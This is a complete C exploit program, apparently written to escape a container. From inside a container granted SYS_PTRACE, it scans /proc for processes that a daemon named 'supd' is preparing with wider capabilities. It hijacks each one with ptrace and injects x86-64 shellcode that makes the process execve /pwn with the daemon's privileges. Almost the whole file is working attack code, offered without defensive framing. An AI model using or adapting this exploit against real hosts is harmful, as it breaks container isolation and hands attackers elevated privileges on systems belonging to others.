/* Runs inside a container started with --cap-add SYS_PTRACE (root, default seccomp).
 * Watches the container's /proc for new processes; when one appears whose capability
 * bounding set is wider than the container's (a process supd is setting up for an exec),
 * it seizes it with ptrace and makes it execve /pwn while it still has all of supd's
 * privileges. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char seen[1 << 22];

static unsigned long long capbnd(int pid, char *line, size_t n) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0) return 0;
    char buf[4096];
    ssize_t r = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (r <= 0) return 0;
    buf[r] = 0;
    char *c = strstr(buf, "CapBnd:");
    if (!c) return 0;
    if (line) { char *s = strstr(buf, "CapEff:"); snprintf(line, n, "%.24s / Seccomp:%c", s ? s : "?", strstr(buf, "Seccomp:\t") ? strstr(buf, "Seccomp:\t")[9] : '?'); }
    return strtoull(c + 8, 0, 16);
}

int main(int argc, char **argv) {
    unsigned long long mine = capbnd(getpid(), 0, 0);
    int self = getpid();
    /* lea rdi,[rip+13]; xor esi,esi; xor edx,edx; mov eax,59; syscall; jmp .; "/pwn\0" */
    unsigned char code[32] = {0x48, 0x8d, 0x3d, 0x0d, 0, 0, 0, 0x31, 0xf6, 0x31, 0xd2,
                              0xb8, 0x3b, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xfe,
                              '/', 'p', 'w', 'n', 0};
    fprintf(stderr, "hunter: my CapBnd %llx, watching\n", mine);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= (1 << 22) || seen[pid]) continue;
            seen[pid] = 1;
            char info[128] = "";
            unsigned long long bnd = capbnd(pid, info, sizeof info);
            if (!bnd || (bnd & ~mine) == 0) continue;
            fprintf(stderr, "hunter: pid %d CapBnd %llx (%s): seizing\n", pid, bnd, info);
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) { perror("seize"); continue; }
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            int st;
            if (waitpid(pid, &st, __WALL) < 0) { perror("waitpid"); continue; }
            bnd = capbnd(pid, info, sizeof info);
            fprintf(stderr, "hunter: stopped, CapBnd now %llx (%s)\n", bnd, info);
            if ((bnd & ~mine) == 0) { ptrace(PTRACE_DETACH, pid, 0, 0); continue; }
            struct user_regs_struct r;
            ptrace(PTRACE_GETREGS, pid, 0, &r);
            for (int i = 0; i < 32; i += 8)
                ptrace(PTRACE_POKETEXT, pid, r.rip + i, *(long *)(code + i));
            r.orig_rax = -1; /* no syscall restart */
            ptrace(PTRACE_SETREGS, pid, 0, &r);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            fprintf(stderr, "hunter: injected execve(/pwn) into %d\n", pid);
            if (argc > 1) return 0;
        }
        closedir(d);
    }
}
